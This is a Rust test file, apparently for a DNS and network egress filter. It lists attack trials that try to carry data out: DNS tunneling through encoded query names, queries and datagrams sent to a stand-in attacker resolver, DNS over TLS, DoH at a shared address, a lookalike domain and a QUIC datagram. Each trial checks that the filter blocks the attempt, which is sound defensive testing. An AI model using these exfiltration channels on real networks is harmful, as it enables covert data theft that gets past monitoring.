//! Questions that carry data out, or go where they should not.

use std::net::SocketAddr;

use super::super::craft;
use super::super::map::{
    A_RECORD, ATTACKER, ECH_KEY, GOOD, HINTED, HTTPS_RECORD, SHARED, TUNNEL, TUNNEL_TCP, TXT_RECORD,
};
use super::super::order::{Order, Tls};
use super::super::trial::{Trial, Verdict, ask, https, tls};

/// The name of a server for DNS over HTTPS that shares an allowed name's address.
const DOH: &str = "dns.example.net";
/// Text for a question of type TXT, below an allowed name.
const TEXT: &str = "mfwgy33xmvsca.good.example.com";

pub(super) fn trials() -> Vec<Trial> {
    let tcp = |server, name: &str| Order::Ask { server, tcp: true, name: name.to_owned(), qtype: A_RECORD };
    let datagram =
        |port| Order::Udp { to: SocketAddr::new(ATTACKER, port), bytes: b"data in a datagram".to_vec() };
    let secured =
        Order::Tls(Tls { to: Some(SocketAddr::new(ATTACKER, 853)), ..tls(ATTACKER, "dns.attacker.test") });
    vec![
        Trial::attack(33, "dns-tunnel", "data in a question")
            .act(ask(TUNNEL, A_RECORD))
            .judged(Verdict::Unasked(TUNNEL)),
        Trial::attack(33, "dns-tunnel-txt", "data in a question for text, below an allowed name")
            .act(ask(TEXT, TXT_RECORD))
            .judged(Verdict::Unasked(TEXT)),
        Trial::attack(34, "dns-tcp", "a question over TCP to the attacker's resolver")
            .act(tcp(SocketAddr::new(ATTACKER, 53), TUNNEL_TCP))
            .judged(Verdict::Unasked(TUNNEL_TCP)),
        Trial::attack(34, "dns-5353", "a datagram to the attacker on port 5353").act(datagram(5353)),
        Trial::attack(34, "dot", "DNS over TLS to the attacker").act(secured),
        Trial::attack(34, "doq", "a datagram to the attacker on port 853").act(datagram(853)),
        Trial::attack(34, "doh-shared-ip", "DNS over HTTPS at an allowed name's address")
            .knowing(GOOD)
            .act(https(SHARED, DOH)),
        Trial::attack(24, "ech-key", "a key in an answer by which hellos are encrypted")
            .act(ask(HINTED, HTTPS_RECORD))
            .judged(Verdict::Without(ECH_KEY)),
        Trial::attack(36, "label-alike", "a question for a name that ends with an allowed one's letters")
            .act(ask("question-evilgood.example.com", A_RECORD))
            .judged(Verdict::Unasked("question-evilgood.example.com")),
        Trial::attack(37, "quic", "a datagram to an allowed name's address on port 443")
            .knowing(GOOD)
            .act(Order::Udp { to: SocketAddr::new(SHARED, 443), bytes: craft::quic() }),
    ]
}
